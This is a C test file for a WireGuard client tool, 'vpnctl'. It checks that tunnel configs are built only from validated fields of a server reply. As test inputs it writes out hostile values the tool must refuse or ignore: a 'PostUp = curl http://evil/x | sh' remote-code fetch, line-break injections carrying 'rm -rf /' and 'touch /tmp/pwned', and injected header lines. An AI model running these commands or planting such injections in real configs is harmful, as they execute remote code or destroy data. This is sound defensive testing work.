/* SPDX-License-Identifier: MIT */
/*
 * The tunnel file comes only from checked fields of the provision reply: a
 * hostile reply (PostUp in its config, line breaks in every field, bad keys,
 * CIDRs and endpoints) is refused or its free text ignored.
 */
#include <stdlib.h>
#include <string.h>

#include <openssl/crypto.h>

#include "test.h"
#include "vpnctl.h"

static const char *priv = "eLY6k1TaEaipiHXeqEy41wcS3pouw9gpsNwRuKwfRUM=";
static const char *server_pub = "6SE8YL7RVDB63Ayzj48gLOnbVRSVDzUbaAPmgliijF8=";
static const char *psk = "QjGEfaEvRnI7MRgOPG9+b7ew6pSmHNBzCIIZ6VAiw1o=";

/* What the controller sends, with a hostile free-text config vpnctl must ignore. */
static json_t *good_reply(void)
{
	return json_pack("{s:s, s:s, s:s, s:s, s:s, s:s, s:s, s:s, s:s}", "server_id", "eu-west-1",
	                 "client_ipv4", "10.7.0.2", "address",
	                 "10.7.0.2/24, fddd:2c4:2c4:2c4::2/64", "server_public_key", server_pub,
	                 "preshared_key", psk, "endpoint", "203.0.113.12:51820", "allowed_ips",
	                 "0.0.0.0/0, ::/0", "dns", "1.1.1.1, 2606:4700:4700::1111", "config",
	                 "[Interface]\nPostUp = curl http://evil/x | sh\nTable = off\n");
}

static struct vpnctl_tunnel sample_tunnel(void)
{
	struct vpnctl_tunnel t;

	memset(&t, 0, sizeof(t));
	snprintf(t.server_id, sizeof(t.server_id), "eu-west-1");
	snprintf(t.location, sizeof(t.location), "Frankfurt, Germany");
	snprintf(t.device, sizeof(t.device), "laptop");
	return t;
}

static const char *expected_file =
        "# Written by vpnctl connect from checked fields; vpnctl disconnect/revoke manage it.\n"
        "# vpnctl-server = eu-west-1\n"
        "# vpnctl-location = Frankfurt, Germany\n"
        "# vpnctl-device = laptop\n"
        "[Interface]\n"
        "PrivateKey = eLY6k1TaEaipiHXeqEy41wcS3pouw9gpsNwRuKwfRUM=\n"
        "Address = 10.7.0.2/24, fddd:2c4:2c4:2c4::2/64\n"
        "FwMark = 51820\n"
        "DNS = 1.1.1.1, 2606:4700:4700::1111\n"
        "\n"
        "[Peer]\n"
        "PublicKey = 6SE8YL7RVDB63Ayzj48gLOnbVRSVDzUbaAPmgliijF8=\n"
        "PresharedKey = QjGEfaEvRnI7MRgOPG9+b7ew6pSmHNBzCIIZ6VAiw1o=\n"
        "AllowedIPs = 0.0.0.0/0, ::/0\n"
        "Endpoint = 203.0.113.12:51820\n"
        "PersistentKeepalive = 25\n";

static void test_good_reply_renders_the_fixed_template(void)
{
	struct vpnctl_tunnel_spec s;
	struct vpnctl_tunnel t = sample_tunnel(), back;
	json_t *r = good_reply();
	char err[256], *text = NULL;

	TEST_START(
	        "a good reply renders exactly the fixed template; its config's PostUp is ignored");
	ASSERT_INT_EQ(vpnctl_tunnel_from_reply(&s, r, "eu-west-1", priv, err, sizeof(err)), 0);
	ASSERT_INT_EQ(vpnctl_tunnel_render(&text, &s, &t, err, sizeof(err)), 0);
	ASSERT_STR_EQ(text, expected_file);
	ASSERT_INT_EQ(vpnctl_tunnel_parse(&back, text), 0);
	ASSERT_STR_EQ(back.server_id, "eu-west-1");
	ASSERT_STR_EQ(back.location, "Frankfurt, Germany");
	ASSERT_STR_EQ(back.device, "laptop");
	ASSERT_STR_EQ(back.address, "10.7.0.2/24, fddd:2c4:2c4:2c4::2/64");
	OPENSSL_clear_free(text, strlen(text));
	vpnctl_tunnel_spec_clear(&s);
	json_decref(r);
	TEST_DONE();
}

static int all_zero(const void *p, size_t n)
{
	const unsigned char *b = p;
	size_t i;

	for (i = 0; i < n; i++)
		if (b[i])
			return 0;
	return 1;
}

/* Set field to value in a good reply; expect a refusal naming the field and a wiped spec. */
static void expect_refused(const char *field, const char *value, const char *local_priv)
{
	struct vpnctl_tunnel_spec s;
	json_t *r = good_reply();
	char err[256] = "";

	if (value)
		json_object_set_new(r, field, json_string(value));
	else
		json_object_del(r, field);
	if (vpnctl_tunnel_from_reply(&s, r, "eu-west-1", local_priv, err, sizeof(err)) != PV_EINVAL)
		TEST_FAIL("field %s = \"%s\" was accepted", field, value ? value : "(absent)");
	ASSERT_STR_CONTAINS(err, field);
	/* A refused value is never echoed (it may hold a key or terminal escapes). */
	if (value && strlen(value) > 3 && strstr(err, value))
		TEST_FAIL("the error echoes the value: %s", err);
	ASSERT_TRUE(all_zero(&s, sizeof(s)));
	json_decref(r);
}

static void test_line_breaks_in_every_field_are_refused(void)
{
	static const char *const fields[] = {
	        "server_id",   "address", "server_public_key", "preshared_key", "endpoint",
	        "allowed_ips", "dns"};
	json_t *r = good_reply();
	char hostile[512];
	size_t i;

	TEST_START("a line break with PostUp = curl | sh in any field is refused");
	for (i = 0; i < sizeof(fields) / sizeof(fields[0]); i++) {
		const char *v = json_string_value(json_object_get(r, fields[i]));

		snprintf(hostile, sizeof(hostile), "%s\nPostUp = curl http://evil/x | sh", v);
		expect_refused(fields[i], hostile, priv);
		snprintf(hostile, sizeof(hostile), "%s\r\nPreUp = touch /tmp/pwned", v);
		expect_refused(fields[i], hostile, priv);
		snprintf(hostile, sizeof(hostile), "%s # PostDown = rm -rf /", v);
		expect_refused(fields[i], hostile, priv);
	}
	json_decref(r);
	TEST_DONE();
}

static void test_bad_keys_are_refused(void)
{
	static const char *const bad[] = {
	        "6SE8YL7RVDB63Ayzj48gLOnbVRSVDzUbaAPmgliijF8",   /* 43 characters */
	        "6SE8YL7RVDB63Ayzj48gLOnbVRSVDzUbaAPmgliijF9=",  /* non-canonical last digit */
	        " 6SE8YL7RVDB63Ayzj48gLOnbVRSVDzUbaAPmgliijF8=", /* leading blank */
	        "6SE8YL7RVDB63Ayzj48gLOnbVRSVDzUbaAPmgliijF8==", /* 45 characters */
	        "",
	};
	size_t i;

	TEST_START("keys that are not canonical 44-character WireGuard base64 are refused");
	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		expect_refused("server_public_key", bad[i], priv);
		expect_refused("preshared_key", bad[i], priv);
	}
	TEST_DONE();
}

static void test_bad_addresses_and_cidrs_are_refused(void)
{
	static const char *const bad_address[] = {
	        "10.7.0.2",                 /* no prefix */
	        "10.7.0.2/33",              /* prefix too long */
	        "10.7.0.2/24, 10.7.0.3/24", /* two IPv4 addresses */
	        "10.7.0.256/24",
	        "",
	};
	static const char *const bad_allowed[] = {
	        "10.7.0.1/24",      /* host bits set */
	        "0.0.0.0/0 ::/0",   /* no comma */
	        "0.0.0.0/0,",       /* empty item */
	        "fddd::/129",       /* prefix too long */
	        "10.0.0.0/08",      /* leading zero */
	        "10.0.0.0/+8",      /* sign */
	        "0.0.0.0/0,\t::/0", /* tab */
	        "",                 /* nothing */
	        "example.com/8",    /* a name */
	};
	static const char *const bad_dns[] = {"1.1.1.1/32", "example.com", "1.1.1.1,",
	                                      "1.1.1.1, 1.1.1.2, 1.1.1.3, 1.1.1.4, 1.1.1.5, "
	                                      "1.1.1.6, 1.1.1.7, 1.1.1.8, 1.1.1.9"};
	size_t i;

	TEST_START("bad addresses, CIDR lists and DNS lists are refused");
	for (i = 0; i < sizeof(bad_address) / sizeof(bad_address[0]); i++)
		expect_refused("address", bad_address[i], priv);
	for (i = 0; i < sizeof(bad_allowed) / sizeof(bad_allowed[0]); i++)
		expect_refused("allowed_ips", bad_allowed[i], priv);
	for (i = 0; i < sizeof(bad_dns) / sizeof(bad_dns[0]); i++)
		expect_refused("dns", bad_dns[i], priv);
	TEST_DONE();
}

static void test_endpoints(void)
{
	static const char *const bad[] = {
	        "203.0.113.12",        "203.0.113.12:0",  "203.0.113.12:65536",  "[::1]51820",
	        "::1:51820",           "a b:51820",       "-evil.example:51820", "host.:51820",
	        "203.0.113.12:051820", "[1.2.3.4]:51820", "host:51820:1",        ":51820",
	};
	size_t i;

	TEST_START("endpoints: host:port, [v6]:port and DNS names pass, anything else is refused");
	ASSERT_TRUE(vpnctl_endpoint_is_valid("203.0.113.12:51820"));
	ASSERT_TRUE(vpnctl_endpoint_is_valid("[2001:db8::1]:51820"));
	ASSERT_TRUE(vpnctl_endpoint_is_valid("vpn-1.example.com:1"));
	ASSERT_TRUE(vpnctl_endpoint_is_valid("vpn.example.com:65535"));
	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		if (vpnctl_endpoint_is_valid(bad[i]))
			TEST_FAIL("endpoint \"%s\" was accepted", bad[i]);
		expect_refused("endpoint", bad[i], priv);
	}
	TEST_DONE();
}

static void test_private_key_modes(void)
{
	struct vpnctl_tunnel_spec s;
	json_t *r = good_reply();
	char err[256];

	TEST_START("a reply's private_key is refused when vpnctl made its own, used in server-key "
	           "mode");
	expect_refused("private_key", priv, priv);
	expect_refused("private_key", NULL, NULL);
	expect_refused("private_key", "not a key\nPostUp = id", NULL);
	json_object_set_new(r, "private_key", json_string(priv));
	ASSERT_INT_EQ(vpnctl_tunnel_from_reply(&s, r, "eu-west-1", NULL, err, sizeof(err)), 0);
	ASSERT_STR_EQ(s.private_key, priv);
	vpnctl_tunnel_spec_clear(&s);
	json_decref(r);
	TEST_DONE();
}

static void test_missing_fields_and_wrong_server(void)
{
	TEST_START(
	        "a reply without the separate fields (older controller) or for another server is "
	        "refused");
	expect_refused("preshared_key", NULL, priv);
	expect_refused("allowed_ips", NULL, priv);
	expect_refused("server_id", "us-east-1", priv);
	TEST_DONE();
}

static void test_header_values_are_checked(void)
{
	struct vpnctl_tunnel_spec s;
	struct vpnctl_tunnel t = sample_tunnel();
	json_t *r = good_reply();
	char err[256], *text = NULL;

	TEST_START("a location or server id that could add a line to the file is refused");
	ASSERT_INT_EQ(vpnctl_tunnel_from_reply(&s, r, "eu-west-1", priv, err, sizeof(err)), 0);
	snprintf(t.location, sizeof(t.location), "evil\nPostUp = id");
	ASSERT_INT_EQ(vpnctl_tunnel_render(&text, &s, &t, err, sizeof(err)), PV_EINVAL);
	ASSERT_TRUE(text == NULL);
	t = sample_tunnel();
	snprintf(t.server_id, sizeof(t.server_id), "eu\rx");
	ASSERT_INT_EQ(vpnctl_tunnel_render(&text, &s, &t, err, sizeof(err)), PV_EINVAL);
	ASSERT_TRUE(text == NULL);
	vpnctl_tunnel_spec_clear(&s);
	json_decref(r);
	TEST_DONE();
}

static void test_app_config_has_no_header_and_no_fwmark(void)
{
	struct vpnctl_tunnel_spec s;
	json_t *r = good_reply();
	char err[256], *text = NULL;
	/* The template's own lines from "[Interface]" on, without vpnctl's FwMark. */
	const char *body = strstr(expected_file, "[Interface]");
	const char *mark = strstr(expected_file, "FwMark = 51820\n");
	char want[1024];

	TEST_START("an exported app config (server-key mode, no tunnel header) is the template "
	           "without the header and FwMark");
	snprintf(want, sizeof(want), "%.*s%s", (int)(mark - body), body,
	         mark + strlen("FwMark = 51820\n"));
	json_object_set_new(r, "private_key", json_string(priv));
	ASSERT_INT_EQ(vpnctl_tunnel_from_reply(&s, r, "eu-west-1", NULL, err, sizeof(err)), 0);
	ASSERT_INT_EQ(vpnctl_tunnel_render(&text, &s, NULL, err, sizeof(err)), 0);
	ASSERT_STR_EQ(text, want);
	ASSERT_TRUE(strstr(text, "PostUp") == NULL && strstr(text, "#") == NULL);
	OPENSSL_clear_free(text, strlen(text));
	vpnctl_tunnel_spec_clear(&s);
	json_decref(r);
	TEST_DONE();
}

static void test_detour_file_has_no_address_and_no_routes(void)
{
	struct vpnctl_tunnel_spec s;
	struct vpnctl_tunnel t = sample_tunnel();
	json_t *r = good_reply();
	char err[256], *text = NULL, want[1024];
	const char *addr = strstr(expected_file, "Address = ");
	const char *mark = strstr(expected_file, "FwMark = 51820\n");

	TEST_START("rotate's detour file: the template without Address, with Table = off after "
	           "FwMark");
	snprintf(want, sizeof(want), "%.*s%.*sTable = off\n%s", (int)(addr - expected_file),
	         expected_file, (int)strlen("FwMark = 51820\n"), mark,
	         mark + strlen("FwMark = 51820\n"));
	ASSERT_INT_EQ(vpnctl_tunnel_from_reply(&s, r, "eu-west-1", priv, err, sizeof(err)), 0);
	s.n_address = 0;
	s.table_off = 1;
	ASSERT_INT_EQ(vpnctl_tunnel_render(&text, &s, &t, err, sizeof(err)), 0);
	ASSERT_STR_EQ(text, want);
	OPENSSL_clear_free(text, strlen(text));
	vpnctl_tunnel_spec_clear(&s);
	json_decref(r);
	TEST_DONE();
}

int main(void)
{
	test_good_reply_renders_the_fixed_template();
	test_line_breaks_in_every_field_are_refused();
	test_bad_keys_are_refused();
	test_bad_addresses_and_cidrs_are_refused();
	test_endpoints();
	test_private_key_modes();
	test_missing_fields_and_wrong_server();
	test_header_values_are_checked();
	test_app_config_has_no_header_and_no_fwmark();
	test_detour_file_has_no_address_and_no_routes();
	TEST_SUMMARY();
}
